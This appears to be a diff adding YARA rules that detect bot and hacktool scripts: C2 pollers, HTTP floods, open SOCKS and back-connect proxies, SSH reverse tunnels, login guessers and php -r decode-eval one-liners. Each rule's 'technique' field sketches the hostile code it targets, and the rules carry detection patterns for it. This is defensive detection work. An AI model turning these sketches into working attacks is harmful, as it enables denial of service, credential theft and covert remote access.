+        $p = /\b(curl|wget)\s[^\n]{0,200}(\s-d\s|\s--data(-urlencode|-binary|-raw)?[\s=]|\s-F\s|\s--form\s|--post-(data|file))/
+        $sl = /\bsleep\s{1,4}[0-9$]/
+    condition:
+        filesize < 256KB and hs_lang_shell and not hs_doc_file and $lp and $sl and
+        for any i in (1..#r) : ( $g in (@r[i] - 800 .. @r[i]) and $p in (@r[i] .. @r[i] + 800) )
+}
+
+/* The same poller in Ruby: Net::HTTP/open-uri fetch, the answer run by
+ * backticks, %x, system, IO.popen or Open3 (decoded or not), the output
+ * posted back, in a loop that sleeps. */
+rule bot_ruby_http_c2_poll : bot
+{
+    meta:
+        description = "Ruby HTTP command poller: a fetched command run and the output posted back, in a sleeping loop"
+        severity = "high"
+        technique = "loop do; b = Net::HTTP.get(URI(U)); o = `#{Base64.decode64(b)} 2>&1`; Net::HTTP.post_form(URI(U), 'o' => o); sleep 75; end"
+        seen = "train6"
+    strings:
+        $g = /\bNet::HTTP\s{0,2}\.\s{0,2}(get|get_response|start)\b|\bURI\s{0,2}\.\s{0,2}open\s{0,2}\(|\b(HTTParty|Faraday|RestClient)\s{0,2}\.\s{0,2}get\b/
+        $r = /`#\{|%x[({\[]\s{0,2}#\{|\b(system|exec|spawn)\s{0,2}\(?\s{0,2}[a-z_@$][\w.]{0,30}\s{0,2}(\)|\n)|\bIO\s{0,2}\.\s{0,2}popen\s{0,2}\(\s{0,2}[a-z_@$]|\bOpen3\s{0,2}\.\s{0,2}\w{1,10}\s{0,2}\(\s{0,2}[a-z_@$]/
+        $p = /\bNet::HTTP\s{0,2}\.\s{0,2}post(_form)?\s{0,2}\(|\bNet::HTTP::Post\s{0,2}\.\s{0,2}new\b|\b(HTTParty|Faraday|RestClient)\s{0,2}\.\s{0,2}post\b/
+        $lp = /\bloop\s{1,2}do\b|\bwhile\s{1,4}true\b|\buntil\s{1,4}false\b/
+        $sl = /\bsleep\s{0,2}\(?\s{0,2}[0-9a-z_@]/
+    condition:
+        filesize < 512KB and not hs_doc_file and $lp and $sl and
+        for any i in (1..#r) : ( $g in (@r[i] - 600 .. @r[i]) and $p in (@r[i] - 800 .. @r[i] + 800) )
+}
+
+/* An HTTP flood: many workers (threads, processes, background subshells,
+ * requests fired in a loop on a timer), each sending requests without end
+ * to a target, with a random cache-buster or a held-open body, errors
+ * swallowed and answers thrown away. A load test runs a fixed number of
+ * requests and measures them; a status poller sleeps between single
+ * requests. */
+rule bot_http_flood_workers : bot
+{
+    meta:
+        description = "HTTP flood: endless request loops in many workers (threads, background subshells, timers) with random cache-busters, answers discarded"
+        severity = "high"
+        technique = "def h(): while True: urlopen(Request(url + '?' + rnd, headers={'User-Agent': choice(uas)})) except: pass; 400 x Thread(target=h) | for i in $(seq 1 $n); do ( while :; do curl -s -o /dev/null \"$t/?r=$RANDOM\"; done ) & done | setInterval(() => { for (i < 200) http.request({path: p + Math.random(), headers: {'Content-Length': 100000}}).write('a') })"
+        seen = "train6"
+    strings:
+        // Python: an endless loop whose body sends a request
+        $pl = /\bwhile\s{1,4}(True|1)\s{0,2}:/
+        $pr = /\b(urlopen|requests\.(get|post|head|request)|httpx\.(get|post|stream)|\.request\s{0,2}\(\s{0,2}['"](GET|POST|HEAD)['"])\s{0,2}\(?|\b[a-z_]\w{0,20}\.(get|post|head)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}[,)+]/
+        $prnd = /\brandom\.(choice|randint|random|getrandbits|choices)\s{0,2}\(|\bos\.urandom\s{0,2}\(|\buuid\.uuid4\s{0,2}\(|\bsecrets\.token_\w{1,10}\s{0,2}\(/
+        $pex = /\bexcept\b[^\n:]{0,40}:\s{0,4}(\n\s{0,16})?(pass|continue)\b/
+        $pw = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}range\s{0,2}\([^\n]{0,60}\)\s{0,2}:\s{0,4}(\n\s{0,16})?[\w.]{0,40}(Thread|Process)\s{0,2}\(\s{0,2}target\s{0,2}=/
+        // shell: a background subshell looping curl/wget with $RANDOM, started in a loop
+        $sh1 = /\(\s{0,2}while\s{1,4}(:|true)\s{0,2};\s{0,2}do\s[^\n]{0,300}\b(curl|wget)\s[^\n]{0,300}\$RANDOM[^\n]{0,200}\bdone\s{0,2}\)\s{0,2}&/
+        $sh2 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}(\$\(seq\s|\{1\.\.)/
+        // Node: requests fired in a counted loop on a timer or in an endless loop, randomised, errors dropped
+        $nt = /\bsetInterval\s{0,2}\(|\bwhile\s{0,2}\(\s{0,2}(true|1)\s{0,2}\)/
+        $nf = /\bfor\s{0,2}\(\s{0,2}(let|var)\s{1,4}\w{1,10}\s{0,2}=\s{0,2}0\s{0,2};\s{0,2}\w{1,10}\s{0,2}<\s{0,2}[\w.]{1,30}\s{0,2};/
+        $nr = /\bhttps?\s{0,2}\.\s{0,2}(request|get)\s{0,2}\(/
+        $nrnd = "Math.random()" ascii
+        $ne = /\.on\s{0,2}\(\s{0,2}['"]error['"]\s{0,2},\s{0,2}(\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}=>\s{0,2}\{\s{0,2}\}|\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}=>\s{0,2}(null|undefined|0)|function\s{0,2}\(\s{0,2}\w{0,10}\s{0,2}\)\s{0,2}\{\s{0,2}\})/
+    condition:
+        filesize < 256KB and (not hs_doc_file or hs_node_code) and (
+            (hs_lang_python and $pw and $pex and
+             for any i in (1..#pl) : ( $pr in (@pl[i] .. @pl[i] + 500) and $prnd in (@pl[i] .. @pl[i] + 500) ))
+            or (hs_lang_shell and $sh1 and $sh2 and @sh2[1] < @sh1[#sh1])
+            or (hs_node_code and $nrnd and $ne and
+                for any i in (1..#nt) : ( for any j in (1..#nf) : ( @nf[j] > @nt[i] and @nf[j] < @nt[i] + 200 and
+                    $nr in (@nf[j] .. @nf[j] + 300) and $nrnd in (@nf[j] .. @nf[j] + 500) ) ))
+        )
+}
+
+/* An open SOCKS5 proxy: a listening socket that answers the greeting with
+ * "no authentication" (05 00), connects wherever the client asks (the
+ * address read from the request, not a fixed upstream) and relays. It lets
+ * anyone send mail and attacks from the host. */
+rule bot_socks_open_relay : bot
+{
+    meta:
+        description = "Script running an open SOCKS5 proxy: listens, answers 'no authentication', connects to the address the client sends and relays"
+        severity = "high"
+        technique = "srv.listen(); c.sendall(b'\\x05\\x00'); addr = inet_ntoa(c.recv(4)); r = create_connection((addr, port)); select relay | net.createServer(c => { c.write(Buffer.from([5, 0])); net.connect(port, host, () => { c.pipe(up); up.pipe(c) }) })"
+        seen = "train6"
+    strings:
+        $l1 = /\.listen\s{0,2}\(|Listen\s{0,4}=>|\bnet\s{0,2}\.\s{0,2}createServer\s{0,2}\(|\bTCPServer\s{0,2}\.\s{0,2}new\b/
+        $v1 = /\\x05\\x00['"]/
+        $v2 = /Buffer\.from\s{0,2}\(\s{0,2}\[\s{0,2}(5|0x0?5)\s{0,2},\s{0,2}(0|0x0?0)\s{0,2}\]/
+        $v3 = /\bpack\s{0,2}\(\s{0,2}['"]C2['"]\s{0,2},\s{0,2}(5|0x05)\s{0,2},\s{0,2}(0|0x00)\s{0,2}\)|\bchr\s{0,2}\(\s{0,2}5\s{0,2}\)\s{0,2}\.\s{0,2}chr\s{0,2}\(\s{0,2}0\s{0,2}\)/
+        // the far end is what the client asked for: a variable address and port
+        $c1 = /\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}[a-z_]\w{0,20}\s{0,2}\)/
+        $c2 = /\bnet\s{0,2}\.\s{0,2}(connect|createConnection)\s{0,2}\(\s{0,2}[a-z_$][\w$]{0,20}\s{0,2},\s{0,2}[a-z_$][\w$]{0,20}\s{0,2}[,)]/
+        $c3 = /PeerAddr\s{0,4}=>\s{0,4}\$\w{1,30}/
+        $c4 = /\.connect\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}[a-z_]\w{0,20}\s{0,2}\)\s{0,2}\)/
+        // the relay
+        $r1 = /\bselect\.select\s{0,2}\(|IO::Select|\.pipe\s{0,2}\(\s{0,2}[a-z_$][\w$]{0,20}\s{0,2}\)|\bthreading\.Thread\s{0,2}\(|\bfork\b/
+    condition:
+        filesize < 512KB and (not hs_doc_file or hs_node_code) and $l1 and any of ($v*) and any of ($c*) and $r1
+}
+
+/* A relay steered from outside: a control connection sends "host:port",
+ * the script connects there and to its controller again, and copies bytes
+ * between the two (a back-connect proxy: the victim host carries the
+ * controller's traffic, no port opened on it). */
+rule bot_backconnect_proxy_relay : bot
+{
+    meta:
+        description = "Back-connect proxy: targets read from a control connection, a connection opened to each and relayed to the controller"
+        severity = "high"
+        technique = "while (my $t = <$ctl>) { ($h, $p) = split /:/, $t; $up = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p); $dn = IO::Socket::INET->new(PeerAddr => C2); IO::Select sysread/syswrite }"
+        seen = "train6"
+    strings:
+        $rd = /\bwhile\s{0,2}\(\s{0,2}(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}<\s{0,2}\$\w{1,30}\s{0,2}>|\.recv\s{0,2}\(\s{0,2}\d{1,5}\s{0,2}\)/
+        $sp = /\bsplit\s{0,2}\(?\s{0,2}\/:\/|\.split\s{0,2}\(\s{0,2}['"]:['"]/
+        $up1 = /PeerAddr\s{0,4}=>\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}PeerPort\s{0,4}=>\s{0,4}\$\w{1,30}/
+        $up2 = /\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2},\s{0,2}int\s{0,2}\(\s{0,2}[a-z_]\w{0,20}\s{0,2}\)\s{0,2}\)/
+        $ctl = /PeerAddr\s{0,4}=>\s{0,4}['"][0-9a-zA-Z.-]{3,80}['"]|\bcreate_connection\s{0,2}\(\s{0,2}\(\s{0,2}['"][0-9a-zA-Z.-]{3,80}['"]/
+        $sel = /IO::Select|\bselect\.select\s{0,2}\(|\bselectors\./
+        $cp = /\bsyswrite\s{0,2}\(|\.sendall\s{0,2}\(/
+    condition:
+        filesize < 256KB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
+        $rd and $sp and any of ($up*) and #ctl >= 1 and $sel and $cp and
+        for any i in (1..#sp) : ( for any of ($up*) : ( $ in (@sp[i] .. @sp[i] + 300) ) )
+}
+
+/* An SSH tunnel kept up by a loop that publishes this host's sshd on the
+ * far side (-R on all addresses to port 22) or opens a SOCKS hop (-D)
+ * together with a remote forward, without checking the far host's key: a
+ * way in for someone else. A developer's tunnel forwards a local port to a
+ * database (-L) and checks the host key. */
+rule bot_ssh_reverse_tunnel_loop : bot
+{
+    meta:
+        description = "SSH reverse tunnel kept alive in a loop: the local sshd published on a remote host (-R to :22) or a remote forward with a SOCKS hop (-D), host keys unchecked"
+        severity = "high"
+        technique = "while true; do ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:20000:localhost:22 -D 127.0.0.1:20001 -i ~/.ssh/.k u@H; sleep 20; done"
+        seen = "train6"
+    strings:
+        $r22 = /\b(auto)?ssh\s[^\n]{0,300}\s-R\s{0,2}['"]?((0\.0\.0\.0|\*|\[::\])?:)?\d{2,5}:(localhost|127\.0\.0\.1|\[::1\]):22\b/
+        $rd = /\b(auto)?ssh\s[^\n]{0,300}(\s-R\s[^\n]{0,200}\s-D\s|\s-D\s[^\n]{0,200}\s-R\s)/
+        $nk = /StrictHostKeyChecking[\s=]{1,3}no\b/
+        $lp = /\b(while\s{1,4}(true|:)|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b|\bautossh\s/
+    condition:
+        filesize < 128KB and not hs_doc_file and (any of ($r22, $rd)) and $nk and $lp
+}
+
+/* A login guesser in Python: credential pairs read from a file (a combo
+ * line split on ':' or '|'), each tried by a login call that takes both as
+ * variables (SSH connect with the user and password positional, a login
+ * form POSTed with the password field from a variable, ftplib/smtplib/
+ * imaplib login), the hits appended to a file. A deploy tool logs in with
+ * a key to a fixed host list; a site's own tests post one literal login. */
+rule bot_combo_login_guesser : bot hacktool
+{
+    meta:
+        description = "Login guesser: user/password pairs from a combo file tried by SSH, a web login form or a mail/FTP login, hits written to a file"
+        severity = "high"
+        technique = "combos = [l.split(':', 1) for l in open(argv[2])]; c.connect(h, 22, u, p) .. open('.good', 'a') | host, user, pw = line.split('|'); requests.post(U, data={'user': user, 'pass': pw}); open('hits.txt', 'a')"
+        seen = "train6"
+    strings:
+        $sp = /\.split\s{0,2}\(\s{0,2}['"][:|;]['"]/
+        $rf = /\bopen\s{0,2}\(\s{0,2}sys\.argv\s{0,2}\[|\bfileinput\.input\s{0,2}\(|\bsys\.stdin\b|\.readlines\s{0,2}\(/
+        $lg1 = /\.connect\s{0,2}\(\s{0,2}[a-z_]\w{0,30}\s{0,2},\s{0,2}(\d{2,5}|[a-z_]\w{0,30})\s{0,2},\s{0,2}[a-z_]\w{0,30}\s{0,2},\s{0,2}[a-z_]\w{0,30}\s{0,2}[,)]/
+        $lg2 = /['"](pass(word|wd)?|pwd|passwd|login_password|log_pass)['"]\s{0,2}:\s{0,2}[a-z_]\w{0,30}\s{0,2}[,}]/
+        $lg3 = /\.connect\s{0,2}\([^)\n]{0,160}\bpassword\s{0,2}=\s{0,2}[a-z_]\w{0,30}\s{0,2}[,)]|\.login\s{0,2}\(\s{0,2}[a-z_][\w.\[\]]{0,30}\s{0,2},\s{0,2}[a-z_][\w.\[\]]{0,30}\s{0,2}\)/
+        $hit = /\bopen\s{0,2}\([^)\n]{1,80},\s{0,2}['"]a\+?['"]\s{0,2}\)/
+    condition:
+        filesize < 256KB and not hs_doc_file and hs_lang_python and $sp and $rf and any of ($lg*) and $hit
+}
+
+/* WordPress XML-RPC password guessing: a wp.getUsersBlogs (or
+ * system.multicall) call built with a user and a word from lists and
+ * POSTed to every site's xmlrpc.php. WordPress itself answers the method;
+ * it never writes the call. */
+rule bot_xmlrpc_login_guesser : bot hacktool
+{
+    meta:
+        description = "WordPress XML-RPC login guesser: wp.getUsersBlogs calls built from user and word lists, POSTed to xmlrpc.php"
+        severity = "high"
+        technique = "foreach ($words as $w) { $x = '<methodCall><methodName>wp.getUsersBlogs</methodName>..<value>' . $u . '</value>..' . $w ..; curl POST site/xmlrpc.php; if isAdmin -> save }"
+        seen = "train6"
+    strings:
+        $m = /<methodName>\s{0,2}(wp\.getUsersBlogs|wp\.getProfile|metaWeblog\.getUsersBlogs|system\.multicall)\s{0,2}<\/methodName>/
+        $v = /<value>(<string>)?\s{0,2}['"]\s{0,2}\.\s{0,2}\$\w{1,30}|<value>(<string>)?\{?\$\w{1,30}|<value>(<string>)?%s|<value>(<string>)?\{\w{0,20}\}/
+        $x = "xmlrpc.php" ascii
+        $l1 = /\bforeach\s{0,2}\(|\bfor\s{1,4}\w{1,20}\s{1,4}in\b|\bwhile\s{0,2}\(/
+        $l2 = /\bfile\s{0,2}\(\s{0,2}\$(argv|_GET|_POST|_FILES)|\bfgets\s{0,2}\(|\bopen\s{0,2}\(\s{0,2}sys\.argv|\breadlines\s{0,2}\(/
+    condition:
+        filesize < 256KB and not hs_doc_file and $m and #v >= 2 and $x and $l1 and $l2
+}
+
+/* `php -r` run with an encoded payload: a one-liner (a crontab line, a
+ * shell wrapper, an rc file) that decodes a blob and evals it. Perl's and
+ * Python's one-liners are bot_decode_eval_script's; a PHP file's own eval
+ * is the PHP layer's. An artisan or wp-cli line runs a file, not a blob. */
+rule bot_php_oneliner_decode_eval : bot obfuscation
+{
+    meta:
+        description = "php -r one-liner that decodes a blob (base64, gzinflate, rot13, hex) and evals it, in a crontab, shell script or rc file"
+        severity = "high"
+        technique = "17 * * * * php -r 'eval(gzinflate(base64_decode(\"...\")));'"
+        seen = "train6"
+    strings:
+        $r = /\bphp[0-9.]{0,4}(\s{1,4}-[a-zA-Z](\s{1,4}[^\s-][^\s]{0,60})?){0,4}\s{1,4}-r\s{0,4}["'][^\n]{0,200}\b(eval|assert|create_function)\s{0,2}\(\s{0,2}(@\s{0,2})?(gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|hex2bin|strrev|convert_uudecode)\s{0,2}\(/
+    condition:
+        filesize < 512KB and not hs_doc_file and $r
 }
